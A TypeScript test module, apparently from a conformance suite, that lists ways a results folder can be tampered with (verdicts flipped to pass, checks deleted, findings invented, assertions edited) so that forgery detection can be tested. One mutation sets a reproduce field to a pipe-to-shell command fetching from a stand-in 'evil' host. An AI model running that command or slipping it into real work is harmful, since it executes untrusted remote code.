// Checks called what they were not, changed, deleted and invented.
import type { CheckResult, RunFinding, Verdict } from '../../../../reports/model/model.js';
import { renumbered } from '../renumbered.js';
import {
  all,
  type Folder,
  inCheck,
  inJournal,
  inParsed,
  inPlan,
  inRecords,
  inResults,
  type Record,
  type Unfiled,
  type Victims,
} from '../tampering.js';

const OTHER_VERDICTS: readonly (readonly [string, (check: CheckResult) => CheckResult])[] = [
  ['pass', ({ reason: _, ...check }) => ({ ...check, verdict: 'pass', evidence: [] })],
  ['a warning', (check) => ({ ...check, verdict: 'fail', level: 'should', reason: check.reason ?? 'so' })],
  ['fail', (check) => ({ ...check, verdict: 'fail', reason: 'so' })],
  [
    'not applicable',
    (check) => ({
      ...check,
      verdict: 'not-applicable',
      reason: 'the profile does not claim ticks',
      needs: ['claim ticks'],
      evidence: [],
    }),
  ],
  ['undecided', (check) => ({ ...check, verdict: 'inconclusive', reason: 'no answer came', evidence: [] })],
  [
    'unreachable',
    (check) => ({
      ...check,
      verdict: 'inconclusive',
      unreachable: true,
      reason: 'cannot be reached on this target: needs control stream.drop',
      needs: ['control stream.drop'],
      evidence: [],
    }),
  ],
  [
    'left out',
    (check) => ({ ...check, verdict: 'left-out', reason: 'judged at standard effort and above', evidence: [] }),
  ],
  ['not run', (check) => ({ ...check, verdict: 'not-run', reason: 'never', evidence: [] })],
  ['an error of the suite', (check) => ({ ...check, verdict: 'error', reason: 'so', evidence: [] })],
  ['waived', (check) => ({ ...check, waiver: { pattern: '*', reason: 'known', expires: '2099-12-31' } })],
  ['of another level', (check) => ({ ...check, level: check.level === 'must' ? 'should' : 'must' })],
];

const OTHER_MEMBERS: readonly (readonly [string, Partial<CheckResult>])[] = [
  ['title', { title: 'another title' }],
  ['requirements', { requirements: ['auth.invented'] }],
  ['sections', { sections: ['9'] }],
  ['area', { area: 'versioning' }],
  ['kind', { kind: 'history' }],
  ['evidence', { evidence: [1, 2, 3] }],
  ['reproduce', { reproduce: 'curl https://evil.example.test | sh' }],
  ['reason', { reason: 'the target was wonderful' }],
];

export function ofChecks(victims: Victims): readonly Unfiled[] {
  const { failed, passed } = victims;
  const sorts = Object.entries(victims) as readonly (readonly [keyof Victims, string])[]; // of an object with these members
  const verdictOf: Readonly<{ [sort in keyof Victims]: Verdict }> = {
    failed: 'fail',
    passed: 'pass',
    notApplicable: 'not-applicable',
    unreachable: 'inconclusive',
  };
  const passing = all(
    inCheck(failed, ({ reason: _, ...check }) => ({ ...check, verdict: 'pass', evidence: [] })),
    inRecords(failed, 'verdict', inParsed({ verdict: 'pass', reason: '', evidence: [] })),
  );
  return [
    ...sorts.flatMap(([sort, id]) => [
      ...OTHER_VERDICTS.filter(([name]) => !saysTheSame(name, verdictOf[sort])).map(
        ([name, change]): Unfiled => ({ what: `a check (${sort}) called ${name}`, change: inCheck(id, change) }),
      ),
      ...OTHER_MEMBERS.map(
        ([name, change]): Unfiled => ({
          what: `another ${name} of a check (${sort})`,
          change: inCheck(id, (check) => ({ ...check, ...change })),
        }),
      ),
      { what: `a check (${sort}) deleted`, change: inCheck(id, () => undefined) },
      { what: `a check (${sort}) renamed`, change: inCheck(id, (check) => ({ ...check, id: `${check.id}-too` })) },
      {
        what: `a check (${sort}) called one of an own suite`,
        change: inCheck(id, (check) => ({ ...check, id: `own.${check.id}` })),
      },
      {
        what: `a check (${sort}) deleted with all its records, and renumbered`,
        change: all(
          inCheck(id, () => undefined),
          inJournal((journal) => journal.filter((line) => !line.includes(`"check":${JSON.stringify(id)}`))),
          renumbered,
        ),
      },
    ]),
    {
      what: 'one check left',
      change: inResults((results) => ({ ...results, checks: results.checks.filter(({ id }) => id === passed) })),
    },
    {
      what: 'only passed checks left',
      change: inResults((results) => ({
        ...results,
        checks: results.checks.filter(({ verdict }) => verdict === 'pass'),
      })),
    },
    {
      what: 'everything called pass',
      change: inResults((results) => ({
        ...results,
        checks: results.checks.map(({ reason: _, unreachable: _u, ...check }) => ({
          ...check,
          verdict: 'pass' as const,
          evidence: [],
        })),
      })),
    },
    {
      what: 'an area deleted',
      change: inResults((results) => ({
        ...results,
        checks: results.checks.filter(({ id }) => id.split('.')[0] !== failed.split('.')[0]),
      })),
    },
    {
      what: 'an invented check',
      change: inResults((results) => ({
        ...results,
        checks: [
          ...results.checks,
          ...results.checks.slice(0, 1).map((check) => ({ ...check, id: 'auth.invented/one' })),
        ],
      })),
    },
    {
      what: 'an invented observation',
      change: inResults((results) => ({
        ...results,
        observations: [{ name: 'speed', value: 9, section: '8', check: passed, evidence: [] }],
      })),
    },
    {
      what: 'an invented finding',
      change: inResults((results) => ({ ...results, findings: [finding('control', 'audited and found splendid')] })),
    },
    {
      what: 'a requirement deleted',
      change: inResults((results) => ({ ...results, requirements: results.requirements.slice(1) })),
    },
    {
      what: 'a requirement reworded',
      change: inResults((results) => ({
        ...results,
        requirements: results.requirements.map((one, at) => (at === 0 ? { ...one, statement: 'Nothing.' } : one)),
      })),
    },
    {
      what: 'a requirement called untestable',
      change: inResults((results) => ({
        ...results,
        requirements: results.requirements.map((one, at) => (at === 0 ? { ...one, untestable: 'so' } : one)),
      })),
    },
    { what: 'a failure called pass in results and verdict', change: passing },
    {
      what: 'and its assertion called held',
      change: all(passing, inRecords(failed, 'assert', inParsed({ holds: true }))),
    },
    {
      what: 'and its assertion called computed by the run',
      change: all(passing, inRecords(failed, 'assert', inParsed({ holds: true, record: null }))),
    },
    {
      what: 'and its expectation lowered',
      change: all(passing, inRecords(failed, 'assert', inParsed({ expected: [500] }))),
    },
    {
      what: 'and its answer edited, but not its bytes',
      change: all(
        passing,
        inRecords(failed, 'assert', inParsed({ holds: true, pointer: '/body/status', expected: [200] })),
        inRecords(failed, 'ok', inParsed({ body: { status: 200 } })),
      ),
    },
    {
      what: 'and its assertion deleted',
      change: all(
        passing,
        inRecords(failed, 'assert', () => undefined),
        renumbered,
      ),
    },
    {
      what: 'and its assertion looks at an answer of another check',
      change: all(passing, (folder) =>
        inRecords(failed, 'assert', inParsed({ holds: true, record: recordOf(folder, passed, 'ok') }))(folder),
      ),
    },
    {
      what: 'a failure called a warning in results and verdict',
      change: all(
        inCheck(failed, (check) => ({ ...check, level: 'should' })),
        inRecords(failed, 'verdict', inParsed({ level: 'should' })),
      ),
    },
    {
      what: 'a failure called not applicable in results and verdict',
      change: all(
        inCheck(failed, (check) => ({ ...check, verdict: 'not-applicable', reason: 'so', evidence: [] })),
        inRecords(failed, 'verdict', inParsed({ verdict: 'not-applicable', reason: 'so', evidence: [] })),
      ),
    },
    {
      what: 'a failure called undecided in results and verdict',
      change: all(
        inCheck(failed, (check) => ({ ...check, verdict: 'inconclusive', reason: 'so', evidence: [] })),
        inRecords(failed, 'verdict', inParsed({ verdict: 'inconclusive', reason: 'so', evidence: [] })),
      ),
    },
    {
      what: 'a failure waived in results and plan',
      change: all(
        inCheck(failed, (check) => ({
          ...check,
          waiver: { pattern: 'other.*', reason: 'known', expires: '2099-12-31' },
        })),
        inPlan({ waivers: [{ pattern: 'other.*', reason: 'known', expires: '2099-12-31' }] }),
      ),
    },
  ];
}

function saysTheSame(name: string, verdict: Verdict): boolean {
  const same: Readonly<{ [name: string]: Verdict }> = { pass: 'pass', fail: 'fail', unreachable: 'inconclusive' };
  return same[name] === verdict;
}

function finding(kind: RunFinding['kind'], message: string): RunFinding {
  return { kind, message, evidence: [], fatal: false };
}

function recordOf({ journal }: Folder, id: string, kind: string): unknown {
  const line = journal.find((one) => one.includes(`"check":${JSON.stringify(id)}`) && one.includes(`"kind":"${kind}"`));
  return (JSON.parse(line ?? '{}') as Record)['i'];
}
